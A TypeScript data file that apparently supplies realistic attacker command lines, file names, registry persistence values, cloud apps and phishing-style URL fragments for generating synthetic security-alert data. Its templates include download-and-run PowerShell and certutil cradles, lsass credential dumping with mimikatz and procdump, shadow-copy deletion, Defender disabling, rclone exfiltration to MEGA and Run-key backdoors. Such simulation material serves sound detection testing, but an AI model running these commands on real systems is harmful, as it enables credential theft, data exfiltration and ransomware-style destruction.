/**
 * The raw material of generated entities: real-looking process command lines, file names,
 * registry locations, cloud apps and Azure resources.
 */

export interface ProcessImage {
  image: string;
  /** Placeholders: {url} {exe} {ip} {host} {acct} {pid} {task} {b64}. */
  commandLines: readonly string[];
}

export const PROCESS_IMAGES: readonly ProcessImage[] = [
  {
    image: 'powershell.exe',
    commandLines: [
      'powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand {b64}',
      'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'{url}\')"',
      'powershell.exe -ExecutionPolicy Bypass -Command "Set-MpPreference -DisableRealtimeMonitoring $true"',
    ],
  },
  {
    image: 'cmd.exe',
    commandLines: [
      'cmd.exe /c whoami /all',
      'cmd.exe /c net group "Domain Admins" /domain',
      'cmd.exe /c wevtutil cl Security',
    ],
  },
  {
    image: 'rundll32.exe',
    commandLines: [
      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {pid} C:\\Windows\\Temp\\lsass.dmp full',
      'rundll32.exe C:\\ProgramData\\{exe},DllRegisterServer',
    ],
  },
  {
    image: 'schtasks.exe',
    commandLines: ['schtasks.exe /create /tn "{task}" /tr "C:\\ProgramData\\{exe}" /sc minute /mo 30 /f'],
  },
  {
    image: 'reg.exe',
    commandLines: [
      'reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v "{task}" /t REG_SZ /d "C:\\ProgramData\\{exe}" /f',
    ],
  },
  { image: 'vssadmin.exe', commandLines: ['vssadmin.exe delete shadows /all /quiet'] },
  {
    image: 'wmic.exe',
    commandLines: ['wmic.exe /node:{ip} process call create "cmd.exe /c C:\\Windows\\Temp\\{exe}"', 'wmic.exe shadowcopy delete'],
  },
  { image: 'certutil.exe', commandLines: ['certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\{exe}'] },
  { image: 'mshta.exe', commandLines: ['mshta.exe {url}'] },
  { image: 'procdump64.exe', commandLines: ['procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp'] },
  { image: 'rclone.exe', commandLines: ['rclone.exe copy "\\\\{host}\\Finance" mega:backup --transfers 16 -q'] },
  { image: 'PsExec64.exe', commandLines: ['PsExec64.exe \\\\{host} -accepteula -s cmd.exe /c C:\\Windows\\Temp\\{exe}'] },
  {
    image: 'net.exe',
    commandLines: ['net.exe user /domain', 'net.exe group "Enterprise Admins" /domain', 'net.exe use \\\\{host}\\C$ /user:CONTOSO\\{acct}'],
  },
  {
    image: 'bitsadmin.exe',
    commandLines: ['bitsadmin.exe /transfer update /download /priority high {url} C:\\Users\\Public\\{exe}'],
  },
  { image: 'wscript.exe', commandLines: ['wscript.exe C:\\Users\\{acct}\\Downloads\\Invoice_{pid}.js'] },
  { image: 'mimikatz.exe', commandLines: ['mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'] },
  { image: 'xmrig.exe', commandLines: ['xmrig.exe -o pool.supportxmr.com:443 -u 4{b64} -k --tls --cpu-max-threads-hint=75'] },
];

export const FILE_KINDS = ['malware', 'tool', 'document', 'script'] as const;
export type FileKind = (typeof FILE_KINDS)[number];

export const FILE_NAMES: Readonly<Record<FileKind, readonly string[]>> = {
  malware: [
    'invoice_8812.pdf.exe', 'Payment_Advice.iso', 'setup_x64.msi', 'svchost32.exe', 'update.dll', 'AdobeUpdate.exe',
    'winlogon64.exe', 'OneDriveSync.exe', 'msupdate.dll', 'chrome_installer.exe',
  ],
  tool: [
    'mimikatz.exe', 'Rubeus.exe', 'PsExec64.exe', 'procdump64.exe', 'AdFind.exe', 'rclone.exe', 'AnyDesk.exe',
    'SharpHound.exe', 'xmrig.exe', 'nmap.exe',
  ],
  document: [
    'Q3 Financial Results.xlsm', 'Invoice_2024-0314.docm', 'Remittance Advice.html', 'Shipping Documents.zip',
    'Payroll Update.docx', 'Contract Renewal.pdf', 'HR Policy 2024.docm', 'Purchase Order 7741.xlsx',
  ],
  script: ['update.ps1', 'run.bat', 'install.vbs', 'init.js', 'task.ps1', 'index.hta', 'loader.ps1'],
};

export const FILE_FOLDERS: Readonly<Record<FileKind, readonly string[]>> = {
  malware: ['C:\\Users\\{acct}\\Downloads', 'C:\\Users\\{acct}\\AppData\\Local\\Temp', 'C:\\ProgramData\\Microsoft\\Crypto', 'C:\\Users\\Public'],
  tool: ['C:\\Windows\\Temp', 'C:\\ProgramData', 'C:\\Users\\Public\\Libraries', 'C:\\PerfLogs'],
  document: ['C:\\Users\\{acct}\\Downloads', 'C:\\Users\\{acct}\\Documents', 'C:\\Users\\{acct}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook'],
  script: ['C:\\Users\\{acct}\\AppData\\Roaming', 'C:\\ProgramData', 'C:\\Windows\\Temp'],
};

export const REGISTRY_KEYS: readonly { hive: string; key: string }[] = [
  { hive: 'HKEY_CURRENT_USER', key: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run' },
  { hive: 'HKEY_LOCAL_MACHINE', key: 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' },
  { hive: 'HKEY_LOCAL_MACHINE', key: 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce' },
  { hive: 'HKEY_LOCAL_MACHINE', key: 'SOFTWARE\\Policies\\Microsoft\\Windows Defender' },
  { hive: 'HKEY_LOCAL_MACHINE', key: 'SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths' },
  { hive: 'HKEY_LOCAL_MACHINE', key: 'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon' },
  { hive: 'HKEY_LOCAL_MACHINE', key: 'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe' },
  { hive: 'HKEY_LOCAL_MACHINE', key: 'SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest' },
  { hive: 'HKEY_LOCAL_MACHINE', key: 'SYSTEM\\CurrentControlSet\\Control\\Lsa' },
  { hive: 'HKEY_LOCAL_MACHINE', key: 'SYSTEM\\CurrentControlSet\\Services\\WinDefendUpdate' },
  { hive: 'HKEY_CURRENT_USER', key: 'Software\\Classes\\ms-settings\\shell\\open\\command' },
  { hive: 'HKEY_LOCAL_MACHINE', key: 'SYSTEM\\CONTROLSET001\\CONTROL\\WMI\\AUTOLOGGER\\SENSEAUDITLOGGER' },
];

export const REGISTRY_VALUES: readonly { hive: string; key: string; name: string; value: string; type: string }[] = [
  { ...REGISTRY_KEYS[0]!, name: 'OneDriveUpdate', value: 'C:\\ProgramData\\OneDrive\\upd.exe', type: 'REG_SZ' },
  { ...REGISTRY_KEYS[1]!, name: 'SecurityHealthUpdate', value: 'C:\\Users\\Public\\svchost32.exe', type: 'REG_SZ' },
  { ...REGISTRY_KEYS[2]!, name: 'Updater', value: 'powershell.exe -w hidden -f C:\\ProgramData\\task.ps1', type: 'REG_SZ' },
  { ...REGISTRY_KEYS[3]!, name: 'DisableAntiSpyware', value: '1', type: 'REG_DWORD' },
  { ...REGISTRY_KEYS[4]!, name: 'C:\\ProgramData', value: '0', type: 'REG_DWORD' },
  { ...REGISTRY_KEYS[5]!, name: 'Userinit', value: 'C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\svc.exe', type: 'REG_SZ' },
  { ...REGISTRY_KEYS[6]!, name: 'Debugger', value: 'C:\\Windows\\System32\\cmd.exe', type: 'REG_SZ' },
  { ...REGISTRY_KEYS[7]!, name: 'UseLogonCredential', value: '1', type: 'REG_DWORD' },
  { ...REGISTRY_KEYS[8]!, name: 'DisableRestrictedAdmin', value: '0', type: 'REG_DWORD' },
  { ...REGISTRY_KEYS[9]!, name: 'ImagePath', value: 'C:\\Windows\\Temp\\wdupdate.exe', type: 'REG_EXPAND_SZ' },
  { ...REGISTRY_KEYS[10]!, name: '(Default)', value: 'C:\\Users\\Public\\a.exe', type: 'REG_SZ' },
];

export const CLOUD_APPS: readonly { appId: number; name: string; instanceName: string }[] = [
  { appId: 11161, name: 'Office 365', instanceName: 'Office 365' },
  { appId: 20893, name: 'Microsoft Exchange Online', instanceName: 'Exchange Online - contoso.com' },
  { appId: 20892, name: 'Microsoft SharePoint Online', instanceName: 'SharePoint Online - contoso' },
  { appId: 15600, name: 'Microsoft OneDrive for Business', instanceName: 'OneDrive for Business - contoso' },
  { appId: 28375, name: 'Microsoft Teams', instanceName: 'Microsoft Teams' },
  { appId: 12260, name: 'Microsoft Azure', instanceName: 'Microsoft Azure - Contoso Production' },
  { appId: 11599, name: 'Amazon Web Services', instanceName: 'AWS - contoso-prod' },
  { appId: 11627, name: 'Dropbox', instanceName: 'Dropbox' },
  { appId: 10489, name: 'Box', instanceName: 'Box - contoso' },
  { appId: 11114, name: 'Salesforce', instanceName: 'Salesforce - contoso' },
  { appId: 11376, name: 'GitHub', instanceName: 'GitHub - contoso-eng' },
  { appId: 11116, name: 'Slack', instanceName: 'Slack' },
  { appId: 23043, name: 'Zoom', instanceName: 'Zoom' },
  { appId: 11435, name: 'MEGA', instanceName: 'MEGA' },
];

export const AZURE_RESOURCE_KINDS: readonly { type: string; prefix: string; group: string }[] = [
  { type: 'Microsoft.Compute/virtualMachines', prefix: 'vm-web-', group: 'rg-prod-web' },
  { type: 'Microsoft.Storage/storageAccounts', prefix: 'stcontosofin', group: 'rg-finance' },
  { type: 'Microsoft.KeyVault/vaults', prefix: 'kv-contoso-prod-', group: 'rg-shared-services' },
  { type: 'Microsoft.Sql/servers', prefix: 'sql-contoso-crm-', group: 'rg-crm' },
  { type: 'Microsoft.ContainerService/managedClusters', prefix: 'aks-contoso-', group: 'rg-platform' },
  { type: 'Microsoft.Web/sites', prefix: 'app-contoso-portal-', group: 'rg-prod-web' },
];

export const SUBSCRIPTION_IDS = [
  '8700d3a3-3bb7-4fbe-a090-488a1ad04161',
  'c2d0f5e4-6b1e-4f9a-9d8e-3f2a7b1c0d55',
  '1f4e9b7a-2c3d-4e5f-8a9b-0c1d2e3f4a5b',
] as const;

export const COUNTRY_CODES = ['US', 'NL', 'DE', 'RU', 'CN', 'BR', 'GB', 'FR', 'SG', 'UA', 'RO', 'IN', 'KR', 'NG', 'VN'] as const;

/** First octets of address space that shows up in real sign-in and C2 telemetry. */
export const PUBLIC_FIRST_OCTETS = [185, 45, 91, 193, 104, 20, 40, 52, 23, 31, 77, 89, 94, 109, 146, 178, 195, 212, 213, 5] as const;

export const URL_BRANDS = ['micros0ft', 'office365', 'sharepoint', 'onedrive', 'docusign', 'dhl', 'paypal', 'outlook', 'contoso', 'adobe'] as const;
export const URL_WORDS = ['login', 'secure', 'verify', 'auth', 'docs', 'portal', 'account', 'update', 'files', 'support'] as const;
export const URL_TLDS = ['com', 'net', 'online', 'xyz', 'top', 'live', 'info', 'ru', 'app', 'site'] as const;
export const URL_PATHS = [
  '/signin', '/oauth2/authorize', '/invoice/view', '/doc/shared', '/wp-content/uploads/update.ps1',
  '/download/setup.exe', '/index.hta', '/api/beacon', '/owa/auth/logon.aspx', '/s/Remittance',
] as const;
